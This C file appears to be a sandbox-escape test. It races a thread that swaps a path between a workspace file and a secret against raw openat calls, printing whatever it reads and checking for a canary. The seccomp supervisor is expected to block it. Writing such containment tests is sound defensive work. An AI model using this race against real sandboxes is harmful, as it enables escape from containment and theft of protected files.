/* Time-of-check/time-of-use race on the supervisor's open decision (issue 27): one thread flips a
 * path between a workspace file and the secret while the other opens it by raw system call, 4000
 * times at least (4 s at most); every byte read is printed (the runner looks for the canary).
 * On a loaded machine the two threads may not run at the same time during 4000 opens, and a run
 * whose opens never met a flip named only the workspace file and torn names (ENOENT): neither
 * blocked nor reported, the attack not tried. So the opens start once the flipper runs and go on
 * until 1000 of them overlapped a flip, one was refused otherwise than ENOENT, or the secret read.
// profile: fs-raw
// build: static
// expect-seccomp: blocked; events: kernel.violation(outcome=contained,sensor=seccomp-notify)
*/
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>
#include "esc.h"

static char buf[4096], good[4096], bad[4096];
static atomic_int stop;
static atomic_ulong flips;

static void *flip(void *a)
{
	(void)a;
	size_t gl = strlen(good) + 1, bl = strlen(bad) + 1;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, good, gl);
		memcpy(buf, bad, bl);
		atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_init(argc, argv);
	snprintf(bad, sizeof bad, "%s", esc_arg("secret"));
	snprintf(good, sizeof good, "race-ok.txt");
	long w = ESC_SYS(SYS_openat, AT_FDCWD, good, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (w >= 0)
		close((int)w);
	memcpy(buf, good, strlen(good) + 1);
	pthread_t t;
	if (pthread_create(&t, NULL, flip, NULL))
		return 2;
	int got = 0, refused = 0, met = 0;
	time_t t0 = time(NULL);
	while (!atomic_load(&flips) && time(NULL) - t0 < 4)
		sched_yield();
	for (int i = 0; time(NULL) - t0 < 4; i++) {
		if (i >= 4000 && (got || refused || met >= 1000))
			break;
		unsigned long f0 = atomic_load_explicit(&flips, memory_order_relaxed);
		long fd = ESC_SYS(SYS_openat, AT_FDCWD, buf, O_RDONLY, 0);
		met += atomic_load_explicit(&flips, memory_order_relaxed) != f0;
		if (fd < 0) {
			refused += fd != -ENOENT;
			continue;
		}
		char b[256];
		long n = ESC_SYS(SYS_read, fd, b, sizeof b);
		if (n > 0) {
			fwrite(b, 1, (size_t)n, stdout);
			if (memmem(b, (size_t)n, "SBXESC", 6) || memmem(b, (size_t)n, "CANARY", 6))
				got = 1;
		}
		close((int)fd);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	return esc_result(got, "raced raw open of the secret");
}
